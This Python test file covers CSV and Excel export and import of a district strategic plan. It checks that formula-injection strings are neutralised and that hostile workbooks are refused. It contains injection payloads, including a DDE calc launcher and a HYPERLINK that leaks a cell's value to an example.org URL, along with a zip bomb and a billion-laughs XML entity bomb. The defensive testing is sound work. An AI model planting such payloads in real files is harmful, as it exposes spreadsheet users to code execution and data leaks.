"""The table of a plan as CSV and as a workbook: nothing runs in a spreadsheet, hands may change it, hostile files are refused in a sentence."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from actions.picture import StatusWord
from actions.reading import from_csv, from_xlsx
from actions.reading.apostrophes import guarded, unguarded
from actions.reading.draft import DraftStatus, NotAPlan
from actions.resources import COLUMNS, PlanRow, PlanRows, rows_of
from actions.writing.as_xlsx import COLORS, DAY
from tests.actions.test_round_trip import holds, written
from tests.factories.pictures import district_plan, nested_plan, odd_plan

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\u00a0=1+1", '"=1+1"', "=1+1;", "=IMPORTXML(\"http://example.org\",\"//a\")",
]  # fmt: skip
RUNS_IN_A_SPREADSHEET = re.compile(r"[\s]*[=+\-@＝＋－＠]|[\t\r]")


def with_payloads():
    """Every payload as title, description, note, code, lead, word of a level and name of a status."""
    picture = district_plan()
    picture.statuses = [StatusWord(n, text, f"s{n}", 30 - n, "under_way", "st2") for n, text in enumerate(PAYLOADS)]
    picture.title = picture.description = picture.levels["goal_area"] = PAYLOADS[0]
    for n, step in enumerate(picture.all_steps()):
        text = PAYLOADS[n % len(PAYLOADS)]
        step.title = step.description = step.public_note = step.code = step.lead = text
        step.status = picture.statuses[n % len(PAYLOADS)]
    for n, strategy in enumerate(picture.all_strategies()):
        strategy.title = PAYLOADS[n]
    return picture


def book_of(data, **options):
    return openpyxl.load_workbook(io.BytesIO(data), **options)


def rows_in(data, **options):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), **options))


def as_csv(rows, *, encoding="utf-8", **options):
    out = io.StringIO(newline="")
    csv.writer(out, **options).writerows(rows)
    return out.getvalue().encode(encoding)


def changed(picture, change, **options):
    """The picture's CSV after a change of its rows; `change` gets them as {column: text} and gives rows back."""
    header, *rows = rows_in(written(picture, "csv"))
    rows = change([dict(zip(header, row, strict=True)) for row in rows])
    names = list(dict.fromkeys(name for row in rows for name in row))
    return from_csv.read(as_csv([names, *([row.get(name, "") for name in names] for row in rows)], **options))


def codes_of(draft):
    return [issue.code for issue in draft.issues]


class TestNothingRuns:
    def test_there_are_all_22(self):
        assert len(set(PAYLOADS)) == 22

    def test_in_a_workbook_every_text_is_text_and_numbers_are_numbers(self):
        data = written(with_payloads(), "xlsx")
        book = book_of(data)
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell for cell in cells if cell.data_type == "f"]
        texts = {cell.value for cell in cells if isinstance(cell.value, str)}
        assert all(payload.replace("\r", "_x000D_") in texts for payload in PAYLOADS)
        header = [cell.value for cell in book["Steps"][1]]
        numbers = [row[header.index("No.")].value for row in book["Steps"].iter_rows(min_row=2)]
        assert numbers == list(range(1, len(numbers) + 1))
        archive = zipfile.ZipFile(io.BytesIO(data))
        assert not [name for name in archive.namelist() if "worksheets/" in name and re.search(rb"<f[ >]|<hyperlink", archive.read(name))]

    def test_text_that_looks_like_markup_of_the_workbook_brings_no_cell_along(self):
        picture = odd_plan()
        title = '<r><t>x</t></r></is></c><c r="Z9" t="str"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r><t>y</t></r>'
        picture.areas[0].steps[0].title = title
        data = written(picture, "xlsx")
        sheet = book_of(data)["Steps"]
        assert sheet["C3"].value == title.replace("<", "_x003C_", 1)
        assert sheet["Z9"].value is None
        holds(from_xlsx.read(data), picture)

    def test_in_a_csv_an_apostrophe_stands_before_every_text_that_would_run(self):
        data = written(with_payloads(), "csv")
        header, *rows = rows_in(data)
        assert header == list(COLUMNS)
        assert not [cell for row in [header, *rows] for cell in row if RUNS_IN_A_SPREADSHEET.match(cell)]
        assert {row[header.index("Title")] for row in rows} >= {guarded(payload) for payload in PAYLOADS}
        assert [row[header.index("No.")] for row in rows] == [str(n) for n in range(1, len(rows) + 1)]
        assert {row[header.index("Status as of")][:3] for row in rows if row[header.index("Status")]} == {"202"}

    def test_payloads_come_back(self):
        picture = with_payloads()
        titles = [step.title.strip() for step in picture.all_steps()]
        for form, reader in (("csv", from_csv), ("xlsx", from_xlsx)):
            draft = reader.read(written(picture, form))
            assert [step.title for step in draft.all_steps()] == titles
            assert draft.levels["goal_area"] == "=1+1"

    @given(st.text(st.sampled_from("'=+-@ \t\r\n＝a\u00a0")))
    def test_one_apostrophe_goes_on_and_comes_off(self, text):
        assert unguarded(guarded(text)) == text
        assert not RUNS_IN_A_SPREADSHEET.match(guarded(text))
        assert guarded(text) in (text, f"'{text}")

    @pytest.mark.parametrize("text", ["'tis the season", "''", "a = b", "5", "3-5 schools", ""])
    def test_other_text_is_left_alone(self, text):
        assert guarded(text) == text
        assert unguarded(text) == text


class TestWorkbook:
    def test_steps_can_be_worked_with(self):
        picture = district_plan()
        sheet = book_of(written(picture, "xlsx"))["Steps"]
        header = {cell.value: cell.column_letter for cell in sheet[1]}
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == "A1:K107"
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.column_dimensions["C"].width > 50
        first = sheet[f"{header['Status as of']}4"]
        assert first.value.isoformat() == "2021-07-28T00:00:00"
        assert first.number_format == DAY
        assert first.is_date
        status = sheet[f"{header['Status']}4"]
        assert status.value == "Planning in Progress"
        assert (status.fill.fgColor.rgb, status.font.color.rgb) == ("FFF2CD6B", "FF1A1C1E")
        assert status.alignment.wrap_text
        assert sheet.data_validations.dataValidation[0].formula1 == "Counts!$B$6:$E$6"

    @pytest.mark.parametrize("code", ["4.10", "01", "1-2", "1E5", "3/4", "12345678901234567890"])
    def test_codes_are_text_and_stay_text_when_typed_anew(self, code):
        picture = odd_plan()
        next(picture.all_steps()).code = code
        sheet = book_of(written(picture, "xlsx"))["Steps"]
        column = COLUMNS.index("Code") + 1
        cells = [cell for cell in next(sheet.iter_cols(column, column, 2)) if cell.value is not None]
        assert code in [cell.value for cell in cells]
        assert {(cell.data_type, cell.number_format) for cell in cells} == {("s", "@")}

    def test_counts_are_the_plans(self):
        picture = district_plan()
        sheet = book_of(written(picture, "xlsx"))["Counts"]
        rows = [[cell for cell in row if cell is not None] for row in sheet.iter_rows(values_only=True)]
        assert rows[0] == [picture.title]
        assert rows[1] == ["Mt. Diablo Unified School District, as of August 3, 2021"]
        assert rows[2][0].startswith("5 of 80 action steps")
        names = [status.name for status in picture.statuses]
        assert rows[5] == ["Goal", *names, "No status yet", "All", "Confirmed since June 16, 2021"]
        assert rows[-1] == ["All", 5, 24, 22, 29, 0, 80, 71]
        for n, area in enumerate(picture.areas):
            steps = list(area.all_steps())
            counts = [sum(step.status.name == name for step in steps) for name in names]
            assert rows[6 + n] == [f"{area.code} {area.title}", *counts, 0, len(steps), sum(step.is_confirmed for step in steps)]

    def test_a_step_without_a_status_is_counted_apart(self):
        sheet = book_of(written(odd_plan(), "xlsx"))["Counts"]
        assert [cell.value for cell in sheet[sheet.max_row]] == ["All", 1, 0, 1, 1, 1, 4, 2]

    def test_it_says_what_it_is(self):
        properties = book_of(written(district_plan(), "xlsx")).properties
        assert properties.title == "Strategic Technology Plan, as of August 3, 2021"
        assert properties.created.isoformat() == "2021-08-03T00:00:00"
        assert b"en-US" in zipfile.ZipFile(io.BytesIO(written(district_plan(), "xlsx"))).read("docProps/custom.xml")

    def test_colors_are_those_of_the_pages_and_can_be_read(self):
        tokens = Path("static/css/tokens.css").read_text()
        for look, colors in COLORS.items():
            for part, color in zip(("fill", "on", "edge"), colors, strict=True):
                assert re.search(rf"--{look}-{part}: light-dark\({color},", tokens), (look, part)
            assert contrast(colors[0], colors[1]) >= 4.5

    def test_a_day_before_spreadsheets_count_is_text_and_comes_back(self):
        picture = odd_plan()
        picture.areas[0].steps[0].due = date(1899, 12, 31)
        data = written(picture, "xlsx")
        assert book_of(data)["Steps"]["I3"].value == "1899-12-31"
        holds(from_xlsx.read(data), picture)

    def test_saved_by_another_program_it_still_comes_back(self):
        picture = nested_plan()
        book = book_of(written(picture, "xlsx"))
        sheet = book["Steps"]
        sheet.move_range("A1:V17", rows=2, cols=3)  # a title above, columns of somebody's own before it
        sheet["A1"], sheet["A3"], sheet["A5"] = "Our plan", "My notes", "=1+1"
        out = io.BytesIO()
        book.save(out)
        draft = from_xlsx.read(out.getvalue())
        assert codes_of(draft) == ["other-column"]
        assert "“My notes”" in draft.issues[0].message
        holds(replace(draft, issues=[]), picture)
        assert next(draft.all_steps()).line == 6

    def test_days_as_numbers_and_text_are_understood(self):
        book = book_of(written(odd_plan(), "xlsx"))
        sheet = book["Steps"]
        sheet["F3"].value, sheet["F3"].number_format = 44411, "General"
        sheet["F4"] = "8/3/2021"
        sheet["F6"] = "someday"
        out = io.BytesIO()
        book.save(out)
        draft = from_xlsx.read(out.getvalue())
        assert [step.as_of for step in draft.all_steps()] == [date(2021, 8, 3), date(2021, 8, 3), None, None]
        assert [issue.message for issue in draft.issues] == [
            "Row 6, column “Status as of”: “someday” is not a day; write it as 2021-08-03. The cell was left out."
        ]
        assert draft.issues[0].line == 6


def contrast(one, other):
    def light(color):
        parts = [int(color[n : n + 2], 16) / 255 for n in (1, 3, 5)]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted((light(one), light(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


class TestChangedByHand:
    @pytest.mark.parametrize(
        "options",
        [{"delimiter": ";"}, {"delimiter": "\t", "encoding": "utf-16"}, {"encoding": "utf-8-sig"}, {"lineterminator": "\n"}, {"quoting": csv.QUOTE_ALL}],
        ids=str,
    )  # fmt: skip
    def test_other_ways_of_writing_a_table(self, options):
        picture = odd_plan()
        data = as_csv(rows_in(written(picture, "csv")), **options)
        assert from_csv.looks_like(data)
        holds(replace(from_csv.read(data), issues=[]), picture)

    def test_excel_says_the_separator_above_the_header(self):
        data = b"sep=;\r\n" + as_csv(rows_in(written(odd_plan(), "csv")), delimiter=";")
        assert from_csv.looks_like(data)
        holds(from_csv.read(data), odd_plan())

    def test_letters_of_windows_are_read_and_it_is_said(self):
        picture = odd_plan()
        picture.areas[0].title = "Résumés – “naïve” façades"
        data = as_csv(rows_in(written(picture, "csv")), encoding="cp1252")
        draft = from_csv.read(data)
        assert draft.areas[0].title == picture.areas[0].title
        assert [(issue.code, issue.severity) for issue in draft.issues] == [("encoding", "info")]
        assert "cp1252" in draft.issues[0].message

    def test_columns_moved_blank_rows_and_columns_of_ones_own(self):
        picture = district_plan()

        def change(rows):
            turned = [{"My notes": "x", **dict(reversed(row.items()))} for row in rows]
            return [turned[0], {"Title": " "}, *turned[1:], {}]

        draft = changed(picture, change)
        assert codes_of(draft) == ["other-column"]
        holds(replace(draft, issues=[]), picture)

    def test_sorted_by_something_else_it_is_the_same_plan(self):
        draft = changed(district_plan(), lambda rows: sorted(rows, key=lambda row: row["Title"]))
        assert codes_of(draft) == ["row-order"]
        holds(replace(draft, issues=[]), district_plan())

    def test_a_new_row_without_numbers_hangs_where_it_stands(self):
        def change(rows):
            at = next(n for n, row in enumerate(rows) if row["Code"] == "1.2.1")
            return [
                *rows[: at + 1],
                {"Level": "action step", "Code": "1.2.1b", "Title": "New", "Status": "not  started", "Due": "May 1, 2022"},
                *rows[at + 1 :],
            ]

        strategy = changed(district_plan(), change).areas[0].strategies[1]
        assert [step.code for step in strategy.steps][:3] == ["1.2.1", "1.2.1b", "1.2.2"]
        assert strategy.steps[1].due == date(2022, 5, 1)

    def test_a_copied_row_is_a_part_of_its_own(self):
        def change(rows):
            at = next(n for n, row in enumerate(rows) if row["Code"] == "1.2.1")
            return [*rows[: at + 1], rows[at] | {"Code": "1.2.9"}, *rows[at + 1 :]]

        assert [step.code for step in changed(district_plan(), change).areas[0].strategies[1].steps][:3] == ["1.2.1", "1.2.9", "1.2.2"]

    def test_without_the_folded_columns_the_order_of_rows_tells_the_tree(self):
        kept = COLUMNS[: COLUMNS.index("Confirmed in this cycle")]
        draft = changed(district_plan(), lambda rows: [{name: row[name] for name in kept} for row in rows])
        assert [(area.code, [(s.code, [step.code for step in s.steps]) for s in area.strategies]) for area in draft.areas] == [
            (area.code, [(s.code, [step.code for step in s.steps]) for s in area.strategies]) for area in district_plan().areas
        ]
        assert draft.levels == {"goal_area": "Goal", "strategy": "Strategy", "action_step": "Action step"}
        assert draft.issues == []

    def test_a_scale_that_is_taken_out_is_made_again_from_the_rows_or_the_plan(self):
        def without(*names):
            return lambda rows: [{name: text for name, text in row.items() if name not in names} for row in rows]

        ranked = changed(odd_plan(), without("Scale"))
        assert [(s.name, s.rank, s.meaning) for s in ranked.statuses] == [
            ("On hold", None, "stopped"), ("To do", 1, "not_started"), ("Done", 3, "complete"),
        ]  # fmt: skip
        header, *rows = rows_in(written(odd_plan(), "csv"))
        bare = [
            [cell for name, cell in zip(header, row, strict=True) if name not in ("Scale", "Status rank", "Status meaning")]
            for row in [header, *rows]
        ]
        draft = from_csv.read(as_csv(bare), known_statuses=[DraftStatus("done", 9, "complete")])
        assert {(s.name, s.rank) for s in draft.statuses} == {("done", 9), ("On hold", None), ("To do", None)}

    def test_what_cannot_be_placed_is_hung_above_and_named(self):
        def change(rows):
            next(row for row in rows if row["Code"] == "1.2.1")["Under no."] = "999"
            return rows

        draft = changed(district_plan(), change)
        assert codes_of(draft) == ["place"]
        assert draft.issues[0].message.startswith("Row 7 stands under row no. 999, which is not in the table")
        assert draft.areas[0].strategies[1].steps[0].code == "1.2.1"

    def test_cells_that_nobody_understands_are_named_with_row_and_column(self):
        def change(rows):
            rows[2] |= {"Due": "spring", "No.": "three"}
            rows[1] |= {"Status": "Done"}
            rows[4] |= {"Level": "Chapter", "Kind": ""}
            return rows

        draft = changed(district_plan(), change)
        said = " ".join(issue.message for issue in draft.issues)
        assert "Row 4, column “Due”: “spring” is not a day" in said
        assert "Row 4, column “No.”: “three” is not a whole number" in said
        assert "Row 3 has something in Status" in said
        assert "Row 6 has “Chapter” in Level" in said
        assert draft.lines()["unexplained"] == 1

    def test_a_record_of_several_lines_is_accounted_for_line_by_line(self):
        picture = odd_plan()
        picture.areas[0].description = "one\n\ntwo"
        draft = from_csv.read(written(picture, "csv"))
        assert sorted(draft.fates) == [n for n, line in enumerate(draft.source, 1) if line.strip()]
        assert draft.lines()["unexplained"] == 0
        step = next(draft.all_steps())
        assert step.title in draft.source[step.line - 1]


class TestRefused:
    @pytest.mark.parametrize(
        ("change", "sentence"),
        [
            (lambda rows: [], "no row below it"),
            (lambda rows: [row | {"Title": "", "Code": ""} for row in rows], "Row 2 has neither a title nor a code"),
            (lambda rows: [row | {"Level": "", "Kind": "action step", "Under no.": row["No."]} for row in rows], "Row 2 .* stands before anything"),
            (lambda rows: [rows[0], *(row | {"Level": "", "Kind": "action step", "Under no.": str(n)} for n, row in enumerate(rows[1:], 1))], "deeper than 5"),
            (lambda rows: [rows[0], rows[1] | {"Level": "", "Kind": "action step", "Under no.": "3"}, rows[2] | {"Under no.": "2"}], "under itself"),
        ],
    )  # fmt: skip
    def test_a_table_that_is_no_plan(self, change, sentence):
        header, *rows = rows_in(written(district_plan(), "csv"))
        rows = change([dict(zip(header, row, strict=True)) for row in rows])
        with pytest.raises(NotAPlan, match=sentence):
            from_csv.read(as_csv([header, *([row[name] for name in header] for row in rows)]))

    @pytest.mark.parametrize(
        ("data", "sentence"),
        [
            (b"Name,Answer\nA,1\n", "does not name the columns"),
            (b"Level,Code,Title,Status\n\0", "zero bytes"),
            (b'Level,Code,Title,Status\nGoal,1,"' + b"x" * 5_000_000 + b'",\n', "cannot be read after its line 1"),
            (b"Level,Code,Title,Status\n" + b",,,\n" * 200_001, "more than 200,000 lines"),
            (b"Level,Code,Title,Status\n" + b"Goal area,,x,\n" * 20_001, "more than 20,000 rows"),
        ],
    )
    def test_a_csv(self, data, sentence):
        with pytest.raises(NotAPlan, match=sentence):
            from_csv.read(data)

    @pytest.mark.parametrize(
        "data", [b"", b"\0", b"Dear families,\n", b"%PDF-1.7", b"Timestamp,Title,Group\n", b"PK\x03\x04", bytes(range(256))]
    )
    def test_other_files_are_not_taken_for_a_table(self, data):
        assert not from_csv.looks_like(data)


class TestHostileWorkbooks:
    def test_wrong_types(self):
        for data in (
            b"PK",
            b"PK\x03\x04 and nothing else",
            zipped({"a.txt": b"x"}),
            written(odd_plan(), "xlsx")[:-300],
            zipped({"xl/workbook.xml": b"<"}),
        ):
            with pytest.raises(NotAPlan, match=r"damaged|no XLSX"):
                from_xlsx.read(data)

    def test_a_bomb_is_refused_before_it_is_unpacked(self):
        bomb = zipped({"xl/workbook.xml": b"x", **{f"xl/worksheets/sheet{n}.xml": b"\0" * 30_000_000 for n in range(8)}})
        assert len(bomb) < 300_000
        with pytest.raises(NotAPlan, match="would take 229 MB in 9 files"):
            from_xlsx.read(bomb)
        with pytest.raises(NotAPlan, match="packed more than 200 times"):
            from_xlsx.read(zipped({"xl/workbook.xml": b"x", "xl/sharedStrings.xml": b" " * 30_000_000}))

    def test_entities_are_not_unfolded(self):
        laughs = (
            b'<!DOCTYPE l [<!ENTITY a "'
            + b"ha" * 5_000
            + b'">'
            + b"".join(b'<!ENTITY %c "%s">' % (99 + n, b"&%c;" % (97 if n == 0 else 98 + n) * 50) for n in range(8))
            + b"]>"
        )
        sheet = laughs + b'<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row></sheetData></worksheet>'
        with pytest.raises(NotAPlan, match="damaged"):
            from_xlsx.read(swapped(written(odd_plan(), "xlsx"), {"xl/worksheets/sheet1.xml": lambda _: sheet}))

    def test_a_phantom_dimension_takes_nothing(self):
        def grow(sheet):
            return re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', sheet)

        holds(from_xlsx.read(swapped(written(odd_plan(), "xlsx"), {"xl/worksheets/sheet1.xml": grow})), odd_plan())

    def test_a_million_blank_rows_are_not_looked_at(self):
        def stuff(sheet):
            return sheet.replace(b"</sheetData>", b'<row><c s="1"/></row>' * 1_000_000 + b"</sheetData>")

        data = swapped(written(odd_plan(), "xlsx"), {"xl/worksheets/sheet1.xml": stuff}, compression=zipfile.ZIP_STORED)
        draft = from_xlsx.read(data)
        assert codes_of(draft) == ["blank-rows"]
        assert draft.counts()["action_steps"] == 4

    def test_a_row_without_an_end_is_refused(self):
        def stuff(sheet):
            return sheet.replace(b"</sheetData>", b'<row r="9">' + b"<c><v>1</v></c>" * 20_000 + b"</row></sheetData>")

        with pytest.raises(NotAPlan, match="more than 16,384 cells"):
            from_xlsx.read(swapped(written(odd_plan(), "xlsx"), {"xl/worksheets/sheet1.xml": stuff}))

    def test_a_row_far_below_is_said_not_to_be_read(self):
        def stuff(sheet):
            return sheet.replace(b"</sheetData>", b'<row r="9999999"><c r="A9999999" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')

        draft = from_xlsx.read(swapped(written(odd_plan(), "xlsx"), {"xl/worksheets/sheet1.xml": stuff}))
        assert "After row 7 of the sheet 5,000 rows are blank" in draft.issues[0].message

    def test_a_locked_workbook_and_one_of_formulas_get_a_sentence(self):
        data = written(odd_plan(), "xlsx")
        with pytest.raises(NotAPlan, match="paste them as values"):
            from_xlsx.read(
                swapped(
                    data,
                    {
                        "xl/worksheets/sheet1.xml": lambda sheet: re.sub(rb"<is>.*?</is>", b"<f>1+1</f>", sheet),
                        "xl/worksheets/sheet2.xml": lambda _: sheet_of(b""),
                    },
                )
            )
        with pytest.raises(NotAPlan, match="No sheet of the workbook"):
            from_xlsx.read(swapped(data, {"xl/worksheets/sheet1.xml": lambda _: sheet_of(b"<row><c><v>1</v></c></row>")}))
        at = data.index(b"PK\x01\x02") + 8
        with pytest.raises(NotAPlan, match="password"):
            from_xlsx.read(data[:at] + b"\x01\x08" + data[at + 2 :])


def sheet_of(rows):
    return b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + rows + b"</sheetData></worksheet>"


def zipped(files, compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def swapped(data, changes, compression=zipfile.ZIP_DEFLATED):
    """The workbook with some of its files changed."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return zipped({name: changes.get(name, lambda same: same)(archive.read(name)) for name in archive.namelist()}, compression)


class TestResource:
    def test_a_row_goes_out_and_in_through_the_resource(self):
        table = PlanRows()
        for row in rows_of(district_plan()):
            values = next(table.values(iter([row])))
            back = table.init_instance()
            table.import_instance(back, dict(zip(COLUMNS, values, strict=True)))
            assert back == replace(row, confirmed="", area="")  # read-only: they follow from the others

    def test_days_and_numbers_keep_their_types(self):
        values = dict(zip(COLUMNS, next(PlanRows().values(iter([PlanRow(number=3, due=date(2021, 8, 3))]))), strict=True))
        assert (values["No."], values["Due"], values["Status rank"]) == (3, date(2021, 8, 3), None)
